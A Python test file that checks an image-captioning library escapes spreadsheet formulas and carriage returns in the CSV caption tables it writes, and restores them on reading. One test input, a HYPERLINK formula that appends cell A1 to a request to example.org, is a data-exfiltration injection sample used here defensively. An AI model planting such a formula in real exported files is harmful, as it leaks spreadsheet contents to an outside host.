"""Formulas in captions are escaped in every table that is written, and unescaped on reading."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.data.derived.manifest import manifest
from core.data.derived.noisy import write_noisy
from core.data.derived.subset import save_subset
from core.data.sources.opening import open_source
from core.evaluation.noise import RankedPair, to_csv
from core.spec.caption_files import Candidate, CaptionedImage, CaptionTable
from core.spec.cells import escape_cell, escape_row, unescape_cell
from tests.core.images import write_pairs

LINK = '=HYPERLINK("http://example.org?"&A1,"a cat")'
FIRST = "=+-@\t\r"


@given(st.one_of(st.text(), st.text(alphabet="'=+-@\t\rx", max_size=6)))
def test_guards_are_removed_on_reading(text: str) -> None:
    assert unescape_cell(escape_cell(text)) == text
    assert not escape_cell(text).startswith(tuple(FIRST))


def test_numbers_are_not_guarded() -> None:
    assert escape_row([-1.5, "-x", None, 3, "x"]) == [-1.5, "'-x", None, 3, "x"]


@pytest.mark.parametrize("caption", [LINK, "'=quoted", "'tis a cat"])
def test_a_caption_table_contains_no_formula_and_round_trips(caption: str, tmp_path: Path) -> None:
    train, _ = write_pairs(tmp_path)
    image = open_source(train).rows[0].file
    captioned = CaptionedImage(image, [Candidate(caption, -1.5, -0.25)], {"model": "=model"})
    with CaptionTable(tmp_path / "table.csv") as table:
        table.write(captioned)
    with (tmp_path / "table.csv").open(newline="") as file:
        row = next(iter(csv.DictReader(file)))
    assert not row["title"].startswith(tuple(FIRST))
    assert (row["model"], row["log_prob"]) == ("'=model", "-1.5")
    again = open_source(tmp_path / "table.csv").rows[0]
    assert again.captions == (caption,)
    assert again.file == image
    assert again.labels["model"] == "=model"


def test_a_carriage_return_begins_no_row(tmp_path: Path) -> None:
    content = manifest([("a.png", "cat", ["x\rb.png,a dog"])], ["note"])
    assert list(csv.reader(io.StringIO(content.decode(), newline="")))[1:] == [["a.png", "cat", "x\rb.png,a dog"]]
    with CaptionTable(tmp_path / "table.csv") as table:
        table.write(CaptionedImage(str(tmp_path / "a\rb.png"), [Candidate("a cat")], {}))
    with (tmp_path / "table.csv").open(newline="") as file:
        assert [row[:2] for row in csv.reader(file)][1:] == [["a\rb.png", "a cat"]]


def test_other_tables_of_pairs_contain_no_formula(tmp_path: Path) -> None:
    train, _ = write_pairs(tmp_path)
    lines = train.read_text().splitlines()
    quoted = LINK.replace('"', '""')
    cells = [f'{line.split(",")[0]},"{quoted} {place}",@home' for place, line in enumerate(lines[1:])]
    train.write_text("\n".join(["filepath,title,+kind", *cells]) + "\n")
    given_ = open_source(train).rows
    save_subset(str(train), tmp_path / "less.csv", lambda *_: None, [given_[0].file])
    write_noisy(train, 0.2, 0, tmp_path / "noisy.csv", tmp_path / "kept.csv")
    for name in ("less", "noisy", "kept"):
        with (tmp_path / f"{name}.csv").open(newline="") as file:
            table = list(csv.reader(file))
        assert not [cell for row in table for cell in row if cell.startswith(tuple(FIRST))]
        rows = open_source(tmp_path / f"{name}.csv").rows
        assert {caption for row in rows for caption in row.captions} <= {row.captions[0] for row in given_}
        assert {row.labels["+kind"] for row in rows} == {"@home"}
    pair = RankedPair(0, "/images/=x.png", LINK, 0.5, 0.5, 1, None)
    assert next(iter(csv.DictReader(io.StringIO(to_csv([pair])))))["title"] == f"'{LINK}"
